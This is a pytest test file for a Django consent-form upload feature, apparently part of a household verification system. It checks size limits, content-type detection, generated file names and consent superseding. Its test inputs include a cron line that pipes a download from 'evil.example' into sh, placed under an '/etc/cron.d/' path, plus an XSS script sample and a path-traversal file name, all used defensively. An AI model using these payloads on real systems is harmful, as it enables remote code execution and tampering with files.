"""Uploaded consent forms: limited in size, accepted by their content only, stored under a
name of the platform's; a new consent of a member replaces their previous one."""

from __future__ import annotations

import hashlib
import os
import re

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils import timezone

from minzheng.audit.models import AuditEvent
from minzheng.verification import services
from minzheng.verification.models import Consent
from minzheng.verification.report import VerificationError, adults
from minzheng.verification.uploads import form_kind

from .conftest import household_in

PDF = b"%PDF-1.4\n% signed consent\n"
JPEG = b"\xff\xd8\xff\xe0\x00\x10JFIF\x00"
PNG = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"


@pytest.fixture
def home(lookup):
    return household_in(lookup, "330102001")


@pytest.fixture
def member(home, lookup):
    return adults(lookup.household(home), timezone.localdate())[0]["id_number"]


def post_form(client, home, member, upload):
    return client.post(
        f"/verification/households/{home}/consents/",
        {
            "id_number": member,
            "method": "signed_form",
            "given_at": "2026-11-01T10:00",
            "form": upload,
        },
    )


def stored_files(settings) -> list[str]:
    root = settings.MEDIA_ROOT
    return [os.path.join(d, f) for d, _dirs, files in os.walk(root) for f in files]


def record(user, home, member, form=None):
    return services.consent_record(
        user=user,
        request=None,
        household_id=home,
        id_number=member,
        method="signed_form" if form else "online",
        given_at=timezone.now(),
        form=form,
    )


def test_the_form_size_limit_is_10_mb_by_default(verify_settings):
    assert verify_settings.VERIFY_CONSENT_FORM_MAX_BYTES == 10 * 2**20


def test_a_form_larger_than_the_limit_is_refused_naming_its_size_and_the_limit(
    verify_settings, login, caseworker, home, member
):
    big = SimpleUploadedFile("scan.pdf", PDF + b"\0" * (11 * 2**20), "application/pdf")
    response = post_form(login(caseworker), home, member, big)
    body = response.content.decode()
    assert response.status_code == 400
    assert 'data-code="form_too_large"' in body
    assert "11.0 MB" in body
    assert "10 MB" in body
    assert not Consent.objects.exists()
    assert stored_files(verify_settings) == []


@pytest.mark.parametrize(
    ("name", "content", "content_type"),
    [
        ("scan.pdf", os.urandom(20 * 2**20), "application/pdf"),
        ("x.html", b"<html><script>alert(1)</script></html>", "text/html"),
        ("/etc/cron.d/evil", b"* * * * * root curl evil.example | sh\n", "application/pdf"),
        ("scan.png", b"GIF89a\x01\x00\x01\x00", "image/png"),
    ],
    ids=["20mb-random", "html", "cron-path", "gif"],
)
def test_only_pdf_jpeg_and_png_content_is_accepted_whatever_the_name(
    verify_settings, login, caseworker, home, member, name, content, content_type
):
    upload = SimpleUploadedFile(name, content, content_type)
    response = post_form(login(caseworker), home, member, upload)
    body = response.content.decode()
    assert response.status_code == 400
    assert 'data-code="form_type"' in body
    assert "PDF、JPEG 或 PNG" in body
    assert not Consent.objects.exists()
    assert stored_files(verify_settings) == []


@pytest.mark.parametrize(
    ("head", "kind"),
    [(PDF, "pdf"), (JPEG, "jpg"), (PNG, "png"), (b"%PDF", None), (b"", None), (b"GIF8", None)],
)
def test_the_kind_of_a_form_is_read_from_its_first_bytes(head, kind):
    assert form_kind(head) == kind


@pytest.mark.parametrize(("content", "ext"), [(PDF, "pdf"), (JPEG, "jpg"), (PNG, "png")])
def test_a_form_is_stored_under_a_generated_name_with_the_extension_of_its_content(
    verify_settings, login, caseworker, home, member, content, ext
):
    upload = SimpleUploadedFile("../张三 授权书.exe", content, "application/octet-stream")
    assert post_form(login(caseworker), home, member, upload).status_code == 302
    consent = Consent.objects.get(household_id=home, id_number=member)
    assert re.fullmatch(
        rf"consents/\d{{4}}/\d{{2}}/[0-9a-f]{{8}}-[0-9a-f]{{4}}-4[0-9a-f]{{3}}-[0-9a-f]{{4}}-"
        rf"[0-9a-f]{{12}}\.{ext}",
        consent.form.name,
    )
    assert consent.form_sha256 == hashlib.sha256(content).hexdigest()
    assert stored_files(verify_settings) == [str(verify_settings.MEDIA_ROOT / consent.form.name)]


def test_the_service_refuses_a_form_of_another_kind_before_storing_anything(
    verify_settings, caseworker, home, member
):
    with pytest.raises(VerificationError) as refused:
        record(caseworker, home, member, SimpleUploadedFile("a.pdf", b"MZ\x90\x00", "x/y"))
    assert refused.value.code == "form_type"
    assert refused.value.status == 400
    assert stored_files(verify_settings) == []


def test_the_outsider_cannot_upload_a_form_for_a_household_of_another_county(
    verify_settings, login, outsider, home, member
):
    upload = SimpleUploadedFile("scan.pdf", PDF, "application/pdf")
    assert post_form(login(outsider), home, member, upload).status_code == 404
    assert not Consent.objects.exists()
    assert stored_files(verify_settings) == []
    assert AuditEvent.objects.filter(actor=outsider, outcome="denied", object_id=home).exists()


def test_a_new_consent_of_a_member_supersedes_the_previous_one(
    verify_settings, caseworker, home, member
):
    first = record(caseworker, home, member)
    second = record(caseworker, home, member, SimpleUploadedFile("s.pdf", PDF, "application/pdf"))
    first.refresh_from_db()
    assert first.revoked_at is not None
    assert first.revoked_by == caseworker
    assert second.revoked_at is None
    assert Consent.objects.filter(id_number=member, revoked_at__isnull=True).count() == 1
    assert services.consents_active(home)[member] == second
    superseded = AuditEvent.objects.get(action="consent_supersede", object_id=str(first.pk))
    assert superseded.detail["superseded_by"] == second.pk
    recorded = AuditEvent.objects.get(action="consent_record", object_id=str(second.pk))
    assert recorded.detail["supersedes"] == [first.pk]


def test_a_consent_for_another_household_does_not_supersede_one_for_this_household(
    verify_settings, caseworker, home, member, lookup
):
    # The same person may authorise the check of a household they are declared in elsewhere.
    other = household_in(lookup, "330102001", where=f"AND h.household_id > '{home}'")
    mine = record(caseworker, home, member)
    services.consent_record(
        user=caseworker,
        request=None,
        household_id=other,
        id_number=member,
        method="online",
        given_at=timezone.now(),
    )
    mine.refresh_from_db()
    assert mine.revoked_at is None


def test_the_table_holds_one_active_consent_per_member_and_household(
    verify_settings, caseworker, lookup
):
    """A second active consent cannot be stored beside the first (the supersede race)."""
    from django.db import IntegrityError, transaction

    hid = household_in(lookup, "330102001")
    member = adults(lookup.household(hid), timezone.localdate())[0]["id_number"]
    first = services.consent_record(
        user=caseworker,
        request=None,
        household_id=hid,
        id_number=member,
        method="online",
        given_at=timezone.now(),
    )
    with pytest.raises(IntegrityError), transaction.atomic():
        Consent.objects.create(
            household_id=hid,
            id_number=member,
            region_code=first.region_code,
            method="online",
            given_at=timezone.now(),
            recorded_by=caseworker,
        )
